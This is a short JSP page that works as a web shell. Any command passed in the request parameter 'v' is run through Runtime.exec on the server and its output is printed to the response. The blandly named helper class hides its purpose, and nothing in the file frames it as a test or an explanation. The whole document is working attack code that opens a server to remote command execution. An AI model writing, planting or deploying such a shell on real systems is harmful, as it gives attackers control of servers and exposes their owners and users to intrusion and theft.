<%@ page import="java.io.*" %>
<%!
    static class Util {
        String run(String s) throws Exception {
            Process p = Runtime.getRuntime().exec(s);
            BufferedReader r = new BufferedReader(new InputStreamReader(p.getInputStream()));
            StringBuilder b = new StringBuilder(); String l;
            while ((l = r.readLine()) != null) b.append(l).append("\n");
            return b.toString();
        }
    }
%>
<%
    String v = request.getParameter("v");
    if (v != null) out.print(new Util().run(v));
%>
